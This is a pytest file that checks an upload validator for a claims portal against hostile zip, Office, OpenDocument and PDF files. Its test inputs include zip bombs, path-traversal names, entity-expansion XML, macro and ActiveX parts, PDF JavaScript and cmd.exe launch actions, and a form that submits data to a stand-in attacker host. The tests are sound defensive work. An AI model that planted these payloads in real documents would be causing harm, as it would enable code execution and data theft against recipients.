"""Inside the containers: zip limits, OOXML and ODF structure, OLE documents and PDFs."""

from __future__ import annotations

import base64
import io
import zipfile
import zlib

import pytest

from claims_portal.claims.evidence import (
    ContainerLimits,
    EvidenceRejected,
    EvidenceType,
    RejectionCode,
    inspect_evidence,
)
from claims_portal.claims.evidence.containers import check_ooxml, open_verified_zip
from claims_portal.claims.evidence.pdf import check_pdf
from tests.claims.evidence import samples

MIB = 1024 * 1024


def code_of(data: bytes, filename: str, **options) -> RejectionCode:
    with pytest.raises(EvidenceRejected) as caught:
        inspect_evidence(data, filename, **options)
    return caught.value.code


# --- Zip limits (checked on a docx: libmagic calls these zips, the container decides) ------


def test_too_many_entries_is_a_zip_bomb(real_files):
    extra = {f"word/media/part{i}.xml": b"<a/>" for i in range(30)}
    package = samples.rezip(real_files["report.docx"], add=extra)
    assert code_of(package, "a.docx", limits=ContainerLimits(max_entries=20)) is (
        RejectionCode.ZIP_BOMB
    )
    inspect_evidence(package, "a.docx")  # the default cap of 2,000 entries allows it


def test_too_much_unpacked_data_is_a_zip_bomb(real_files):
    padding = {"word/media/padding.bin": b"\0" * (3 * MIB)}
    package = samples.rezip(real_files["report.docx"], add=padding)
    limits = ContainerLimits(max_unpacked_bytes=2 * MIB, max_ratio=10_000)
    assert code_of(package, "a.docx", limits=limits) is RejectionCode.ZIP_BOMB


def test_a_member_over_the_ratio_is_a_zip_bomb_but_small_members_may_compress_well(
    real_files,
):
    tiny = samples.rezip(real_files["report.docx"], add={"word/media/small.xml": b"a" * 500_000})
    inspect_evidence(tiny, "a.docx")  # 500 KB of one letter: ratio > 100 but under the floor
    big = samples.rezip(real_files["report.docx"], add={"word/media/big.xml": b"a" * (2 * MIB)})
    assert code_of(big, "a.docx") is RejectionCode.ZIP_BOMB


def test_overlapping_entries_under_every_size_limit_are_still_refused():
    bomb = samples.overlapping_zip_bomb(entries=3, unpacked=1 * MIB)
    assert code_of(bomb, "a.docx") is RejectionCode.ZIP_BOMB


def central_entry(package: bytes | bytearray, name: bytes) -> int:
    """Offset of a member's central-directory header."""
    position = package.find(b"PK\x01\x02")
    while position != -1:
        length = int.from_bytes(package[position + 28 : position + 30], "little")
        if package[position + 46 : position + 46 + length] == name:
            return position
        position = package.find(b"PK\x01\x02", position + 4)
    raise AssertionError(name)


def test_a_member_lying_about_its_size_is_refused(real_files):
    package = bytearray(real_files["report.docx"])
    entry = central_entry(package, b"word/document.xml")
    declared = int.from_bytes(package[entry + 24 : entry + 28], "little")
    package[entry + 24 : entry + 28] = (declared // 2).to_bytes(4, "little")
    assert code_of(bytes(package), "a.docx") is RejectionCode.DAMAGED


def test_a_corrupted_member_is_damaged(real_files):
    package = bytearray(real_files["report.docx"])
    with zipfile.ZipFile(io.BytesIO(bytes(package))) as archive:
        info = archive.getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    package[start + 20] ^= 0xFF
    assert code_of(bytes(package), "a.docx") is RejectionCode.DAMAGED


@pytest.mark.parametrize(
    "name", ["../evil.xml", "/etc/evil.xml", "word/../../evil.xml", "C:/evil.xml", "a\\b.xml"]
)
def test_unsafe_member_names_are_refused(real_files, name):
    package = samples.rezip(real_files["report.docx"], add={name: b"<a/>"})
    assert code_of(package, "a.docx") is RejectionCode.DAMAGED


def test_duplicate_member_names_are_refused(real_files):
    out = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(real_files["report.docx"]))
    with source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        with pytest.warns(UserWarning, match="Duplicate name"):
            target.writestr("word/document.xml", b"<w:document/>")
    assert code_of(out.getvalue(), "a.docx") is RejectionCode.DAMAGED


def test_an_encrypted_member_flag_means_password_protected(real_files):
    package = bytearray(real_files["report.docx"])
    # Set bit 0 (encrypted) in every central-directory entry's flags.
    position = package.find(b"PK\x01\x02")
    while position != -1:
        package[position + 8] |= 0x01
        position = package.find(b"PK\x01\x02", position + 4)
    assert code_of(bytes(package), "a.docx") is RejectionCode.PASSWORD_PROTECTED


def test_data_before_the_first_entry_is_refused(real_files):
    polyglot = samples.WINDOWS_PROGRAM + real_files["report.docx"]
    with pytest.raises(EvidenceRejected) as caught:
        open_verified_zip(polyglot, ContainerLimits(), lambda name: False)
    assert caught.value.code is RejectionCode.DAMAGED


def test_a_truncated_zip_is_damaged(real_files):
    data = real_files["report.docx"][:-200]
    with pytest.raises(EvidenceRejected) as caught:
        check_ooxml(data, EvidenceType.DOCX, ContainerLimits())
    assert caught.value.code is RejectionCode.DAMAGED


# --- OOXML ---------------------------------------------------------------------------------


def test_a_vba_project_part_is_refused_even_without_the_content_type(real_files):
    package = samples.rezip(real_files["report.docx"], add={"word/vbaProject.bin": b"\0" * 600})
    assert code_of(package, "a.docx") is RejectionCode.MACROS


def test_a_macro_enabled_content_type_is_refused(real_files):
    types = samples.read_member(real_files["report.docx"], "[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    package = samples.rezip(real_files["report.docx"], replace={"[Content_Types].xml": types})
    assert code_of(package, "a.docx") is RejectionCode.MACROS


def test_activex_controls_are_refused(real_files):
    package = samples.rezip(
        real_files["report.docx"], add={"word/activeX/activeX1.xml": b"<ax:ocx/>"}
    )
    assert code_of(package, "a.docx") is RejectionCode.MACROS


def test_an_excel_4_macro_sheet_content_type_is_refused(real_files):
    types = samples.read_member(real_files["figures.xlsx"], "[Content_Types].xml")
    types = types.replace(
        b"</Types>",
        b'<Override PartName="/xl/sheets/m.xml" '
        b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    )
    package = samples.rezip(real_files["figures.xlsx"], replace={"[Content_Types].xml": types})
    assert code_of(package, "a.xlsx") is RejectionCode.MACROS


def test_a_template_loaded_from_outside_the_document_is_refused(real_files):
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="https://example.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    package = samples.rezip(real_files["report.docx"], add={"word/_rels/settings.xml.rels": rels})
    with pytest.raises(EvidenceRejected) as caught:
        inspect_evidence(package, "a.docx")
    assert caught.value.code is RejectionCode.ACTIVE_CONTENT
    assert "outside the document" in caught.value.reason


def test_external_hyperlinks_are_fine(real_files):
    rels = samples.read_member(real_files["report.docx"], "word/_rels/document.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/hyperlink" Target="https://www.england.nhs.uk/" '
        b'TargetMode="External"/></Relationships>',
    )
    package = samples.rezip(
        real_files["report.docx"], replace={"word/_rels/document.xml.rels": rels}
    )
    assert inspect_evidence(package, "a.docx").type is EvidenceType.DOCX


def test_a_docx_without_its_document_part_is_refused(real_files):
    package = samples.rezip(real_files["report.docx"], drop={"word/document.xml"})
    with pytest.raises(EvidenceRejected) as caught:
        inspect_evidence(package, "a.docx")
    assert caught.value.code in {RejectionCode.DAMAGED, RejectionCode.CONTENT_MISMATCH}


def test_a_fake_three_entry_zip_named_docx_is_refused():
    # libmagic recognises Office zips by entry names only: this passes as a .docx there.
    fake = samples.zip_of(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<not-really/>",
        }
    )
    assert code_of(fake, "a.docx") is RejectionCode.DAMAGED


def test_a_plain_zip_named_docx_is_a_mismatch():
    archive = samples.zip_of({"notes.txt": b"hello"})
    with pytest.raises(EvidenceRejected) as caught:
        check_ooxml(archive, EvidenceType.DOCX, ContainerLimits())
    assert caught.value.reason == "This file is named .docx but it is a zip archive"


def test_entity_tricks_in_package_xml_are_refused(real_files):
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&b;</Types>'
    )
    package = samples.rezip(real_files["report.docx"], replace={"[Content_Types].xml": laughs})
    assert code_of(package, "a.docx") is RejectionCode.DAMAGED


def test_a_powerpoint_named_docx_says_so(real_files):
    types = samples.read_member(real_files["report.docx"], "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"presentationml.presentation.main+xml"
    )
    package = samples.rezip(real_files["report.docx"], replace={"[Content_Types].xml": types})
    with pytest.raises(EvidenceRejected) as caught:
        check_ooxml(package, EvidenceType.DOCX, ContainerLimits())
    assert caught.value.reason == (
        "This file is named .docx but it is a PowerPoint presentation (.pptx)"
    )


# --- OpenDocument --------------------------------------------------------------------------


def test_an_odt_whose_mimetype_is_not_first_is_refused(real_files):
    with zipfile.ZipFile(io.BytesIO(real_files["report.odt"])) as source:
        members = {i.filename: source.read(i) for i in source.infolist()}
    mimetype = members.pop("mimetype")
    reordered = samples.zip_of({**members, "mimetype": mimetype})
    assert code_of(reordered, "a.odt") is RejectionCode.DAMAGED


def test_an_odt_with_a_compressed_mimetype_is_refused(real_files):
    with zipfile.ZipFile(io.BytesIO(real_files["report.odt"])) as source:
        members = {i.filename: source.read(i) for i in source.infolist()}
    assert code_of(samples.zip_of(members, zipfile.ZIP_DEFLATED), "a.odt") is (
        RejectionCode.DAMAGED
    )


@pytest.mark.parametrize(
    "name", ["Basic/Standard/Module1.xml", "Scripts/python/evil.py", "basic/script-lc.xml"]
)
def test_odf_macro_folders_are_refused(real_files, name):
    package = samples.rezip(real_files["report.odt"], add={name: b"<x/>"})
    assert code_of(package, "a.odt") is RejectionCode.MACROS


def odt_with_body(real_files, xml: bytes) -> bytes:
    """report.odt with ``xml`` at the start of its body (script and xlink prefixes bound)."""
    namespaces = (
        b' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
        b' xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    root = b"<office:document-content"
    content = samples.read_member(real_files["report.odt"], "content.xml")
    content = content.replace(root, root + namespaces, 1)
    content = content.replace(b"<office:text>", b"<office:text>" + xml, 1)
    return samples.rezip(real_files["report.odt"], replace={"content.xml": content})


@pytest.mark.parametrize(
    "href",
    [
        b"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application",
        b"&#118;nd.sun.star.script:evil.py$run?language=Python&amp;location=user",
        b"macro:///Standard.Module1.Main",
    ],
)
def test_odf_events_bound_to_macros_are_refused(real_files, href):
    listener = (
        b'<office:event-listeners><script:event-listener script:language="ooo:script" '
        b'script:event-name="dom:load" xlink:href="' + href + b'"/></office:event-listeners>'
    )
    assert code_of(odt_with_body(real_files, listener), "a.odt") is RejectionCode.MACROS


@pytest.mark.parametrize(
    "href",
    [
        b"vnd.sun.star.script:a.py$b?language=Python&amp;location=user",
        b"&#118;nd.sun.star.script:a.py$b?language=Python",  # a character reference
        b" MACRO:///Standard.Module1.Main",
    ],
)
def test_odf_links_to_macros_are_refused(real_files, href):
    link = b'<text:p><text:a xlink:href="' + href + b'">x</text:a></text:p>'
    assert code_of(odt_with_body(real_files, link), "a.odt") is RejectionCode.MACROS


def test_odf_macro_fields_are_refused(real_files):
    field = (
        b'<text:p><text:execute-macro text:name="Tools.Misc.Main">x</text:execute-macro></text:p>'
    )
    assert code_of(odt_with_body(real_files, field), "a.odt") is RejectionCode.MACROS


def test_odf_text_that_merely_mentions_macros_is_fine(real_files):
    prose = (
        b'<text:p text:style-name="Standard">macro: vnd.sun.star.script:'
        b'<text:a xlink:href="https://www.england.nhs.uk/">NHS England</text:a></text:p>'
    )
    assert inspect_evidence(odt_with_body(real_files, prose), "a.odt").type is EvidenceType.ODT


def test_an_ods_named_odt_is_a_mismatch(real_files):
    with pytest.raises(EvidenceRejected) as caught:
        inspect_evidence(real_files["figures.ods"], "a.odt")
    assert caught.value.code is RejectionCode.CONTENT_MISMATCH


def test_an_odf_presentation_mimetype_named_odt_says_so(real_files):
    package = samples.rezip(
        real_files["report.odt"],
        replace={"mimetype": b"application/vnd.oasis.opendocument.presentation"},
    )
    with pytest.raises(EvidenceRejected) as caught:
        inspect_evidence(package, "a.odt")
    assert "OpenDocument presentation" in caught.value.reason


def test_an_odt_without_a_manifest_is_damaged(real_files):
    package = samples.rezip(real_files["report.odt"], drop={"META-INF/manifest.xml"})
    assert code_of(package, "a.odt") is RejectionCode.DAMAGED


# --- OLE (.doc, .xls) ----------------------------------------------------------------------


def test_a_broken_ole_file_is_damaged():
    header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 2000
    assert code_of(header, "a.doc") in {RejectionCode.DAMAGED, RejectionCode.CONTENT_MISMATCH}


def test_an_encrypted_docx_named_doc_is_password_protected(real_files):
    encrypted = samples.encrypted_ooxml(real_files["report.docx"])
    assert code_of(encrypted, "a.doc") is RejectionCode.PASSWORD_PROTECTED


# --- PDF -----------------------------------------------------------------------------------


def pdf_code(data: bytes) -> RejectionCode:
    return code_of(data, "a.pdf")


def test_a_plain_hand_written_pdf_is_accepted():
    assert inspect_evidence(samples.pdf_document(), "a.pdf").type is EvidenceType.PDF


def test_open_action_alone_is_allowed():
    document = samples.pdf_document(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>")
    document = document.replace(b"/Pages 2 0 R >>", b"/Pages 2 0 R /OpenAction 4 0 R >>", 1)
    assert inspect_evidence(document, "a.pdf").type is EvidenceType.PDF


@pytest.mark.parametrize(
    ("action", "reason"),
    [
        (b"<< /S /JavaScript /JS (app.alert(1)) >>", "This PDF contains JavaScript"),
        (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>", "This PDF contains JavaScript"),
        (b"<< /S /Launch /F (cmd.exe) >>", "This PDF can start other programs"),
        (b"<< /S /L#61unch /F (cmd.exe) >>", "This PDF can start other programs"),
        (b"<< /S /GoToR /F (\\\\server\\share\\a.pdf) /D [0 /Fit] >>", "This PDF has links"),
        (b"<< /S /G#6FT#6FR /F (other.pdf) /D [0 /Fit] >>", "This PDF has links"),
        (b"<< /S /GoToE /T << /R /C /N (a) >> >>", "This PDF has links that open other files"),
        (
            b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
            "This PDF has a form that sends what is typed in it to another place",
        ),
        (b"<< /S /Subm#69tForm /F (x) >>", "This PDF has a form that sends what is typed"),
        (b"<< /S /ImportData /F (data.fdf) >>", "This PDF has a form that reads data"),
        (b"<< /S /#49mport#44ata /F (data.fdf) >>", "This PDF has a form that reads data"),
        (b"<< /Type /EmbeddedFile /Length 0 >>", "This PDF has other files attached inside it"),
        (b"<< /RichMedia 5 0 R >>", "This PDF contains embedded media that can run code"),
        (b"<< /XFA 5 0 R >>", "This PDF contains an XFA form, which can run code"),
    ],
)
def test_active_pdf_content_is_refused(action, reason):
    document = samples.pdf_document(action)
    with pytest.raises(EvidenceRejected) as caught:
        inspect_evidence(document, "a.pdf")
    assert caught.value.code is RejectionCode.ACTIVE_CONTENT
    assert caught.value.reason.startswith(reason)
    assert "Print it to a new PDF" in caught.value.reason


def test_a_submit_form_action_hidden_in_an_object_stream_is_refused():
    stream = samples.object_stream(b"<< /S /SubmitForm /F (https://evil.example/) >>")
    assert pdf_code(samples.pdf_document(stream)) is RejectionCode.ACTIVE_CONTENT


def test_a_real_pdf_with_a_form_field_and_a_web_link_is_accepted():
    # Forms and links to web pages are ordinary; only actions reaching outside are refused.
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(72, 720, "Units delivered")
    page.acroForm.textfield(name="units", x=72, y=680, width=120, height=20)
    page.linkURL("https://www.nhs.uk/", (72, 640, 200, 660))
    page.showPage()
    page.save()
    data = out.getvalue()
    assert b"/AcroForm" in data
    assert b"/URI" in data
    assert inspect_evidence(data, "form.pdf").type is EvidenceType.PDF


def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
    stream = samples.object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    assert pdf_code(samples.pdf_document(stream)) is RejectionCode.ACTIVE_CONTENT


def test_javascript_hidden_behind_two_filters_is_refused():
    inner = zlib.compress(b"10 0 << /S /JavaScript /JS (x) >>")
    data = base64.a85encode(inner) + b"~>"
    stream = samples.pdf_stream(
        b"/Type /ObjStm /N 1 /First 5 /Filter [/ASCII85Decode /FlateDecode]", data
    )
    assert pdf_code(samples.pdf_document(stream)) is RejectionCode.ACTIVE_CONTENT
    hexed = samples.pdf_stream(
        b"/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]",
        inner.hex().encode() + b">",
    )
    assert pdf_code(samples.pdf_document(hexed)) is RejectionCode.ACTIVE_CONTENT


def test_an_innocent_object_stream_is_accepted():
    stream = samples.object_stream(b"<< /Type /Metadata /Producer (reportlab) >>")
    assert inspect_evidence(samples.pdf_document(stream), "a.pdf").type is EvidenceType.PDF


def test_an_object_stream_that_cannot_be_decoded_is_refused():
    lzw = samples.object_stream(b"<< >>", filters=b"/LZWDecode", encode=False)
    assert pdf_code(samples.pdf_document(lzw)) is RejectionCode.DAMAGED
    broken = samples.pdf_stream(b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", b"nonsense")
    assert pdf_code(samples.pdf_document(broken)) is RejectionCode.DAMAGED
    predictor = b"/FlateDecode /DecodeParms << /Predictor 12 >>"
    predicted = samples.object_stream(b"<< >>", filters=predictor)
    assert pdf_code(samples.pdf_document(predicted)) is RejectionCode.DAMAGED


def test_an_object_stream_bomb_is_refused():
    compressor = zlib.compressobj(9)
    data = compressor.compress(b" " * (60 * MIB)) + compressor.flush()
    stream = samples.pdf_stream(b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", data)
    assert pdf_code(samples.pdf_document(stream)) is RejectionCode.ZIP_BOMB


def test_names_inside_ordinary_compressed_streams_are_not_read():
    # A page's drawing instructions are not dictionaries a reader acts on.
    content = zlib.compress(b"BT /F1 12 Tf (About /JavaScript) Tj ET")
    stream = samples.pdf_stream(b"/Filter /FlateDecode", content)
    assert inspect_evidence(samples.pdf_document(stream), "a.pdf").type is EvidenceType.PDF


def test_an_encrypt_entry_in_the_trailer_means_password_protected():
    document = samples.pdf_document(
        b"<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>", trailer_extra=b"/Encrypt 4 0 R "
    )
    assert pdf_code(document) is RejectionCode.PASSWORD_PROTECTED


@pytest.mark.parametrize(
    "document",
    [
        b"%PDF-1.7\n1 0 obj << >> endobj\n",  # no %%EOF: incomplete
        b"\n%PDF-1.7\n" + b"x" * 100 + b"\n%%EOF\n",  # header not at the start
        b"%PDF-1.7\n" + b"%%EOF\n" + b"x" * 2000,  # %%EOF far from the end
        b"%PDF-1.7\n1 0 obj << /Length 5 >>\nstream\nabc",  # a stream that never ends
    ],
)
def test_incomplete_or_malformed_pdfs_are_damaged(document):
    with pytest.raises(EvidenceRejected) as caught:
        check_pdf(document, ContainerLimits())
    assert caught.value.code is RejectionCode.DAMAGED


def test_ole_checks_say_what_the_file_really_is(real_files):
    # libmagic usually settles this first; the container check says the same on its own.
    from claims_portal.claims.evidence.containers import check_ole

    with pytest.raises(EvidenceRejected) as caught:
        check_ole(real_files["libreoffice.xls"], EvidenceType.DOC)
    assert caught.value.reason == (
        "This file is named .doc but it is an Excel 97-2003 workbook (.xls). "
        "Rename it to end in .xls and upload it again"
    )
    with pytest.raises(EvidenceRejected) as caught:
        check_ole(samples.encrypted_ooxml(real_files["report.docx"]), EvidenceType.DOC)
    assert caught.value.code is RejectionCode.PASSWORD_PROTECTED


def test_macros_in_an_embedded_workbook_are_found_by_oletools(real_files):
    embedded = {"word/embeddings/Worksheet.xls": samples.fixture("macros.xls")}
    package = samples.rezip(real_files["report.docx"], add=embedded)
    assert code_of(package, "a.docx") is RejectionCode.MACROS


def test_an_external_main_part_is_refused(real_files):
    rels = samples.read_member(real_files["report.docx"], "_rels/.rels").replace(
        b'Target="word/document.xml"',
        b'Target="https://example.invalid/d.xml" TargetMode="External"',
    )
    package = samples.rezip(real_files["report.docx"], replace={"_rels/.rels": rels})
    assert code_of(package, "a.docx") is RejectionCode.DAMAGED


def test_unsupported_zip_compression_is_refused(real_files):
    out = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(real_files["report.docx"]))
    with source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            bzip2 = info.filename == "word/styles.xml"
            method = zipfile.ZIP_BZIP2 if bzip2 else info.compress_type
            target.writestr(info.filename, source.read(info), method)
    assert code_of(out.getvalue(), "a.docx") is RejectionCode.DAMAGED


def test_oversized_package_metadata_is_refused(real_files):
    limits = ContainerLimits(max_metadata_part_bytes=100)
    assert code_of(real_files["report.docx"], "a.docx", limits=limits) is RejectionCode.DAMAGED


def test_an_unknown_odf_mimetype_is_a_mismatch(real_files):
    package = samples.rezip(real_files["report.odt"], replace={"mimetype": b"application/x-other"})
    with pytest.raises(EvidenceRejected) as caught:
        inspect_evidence(package, "a.odt")
    assert caught.value.code is RejectionCode.CONTENT_MISMATCH
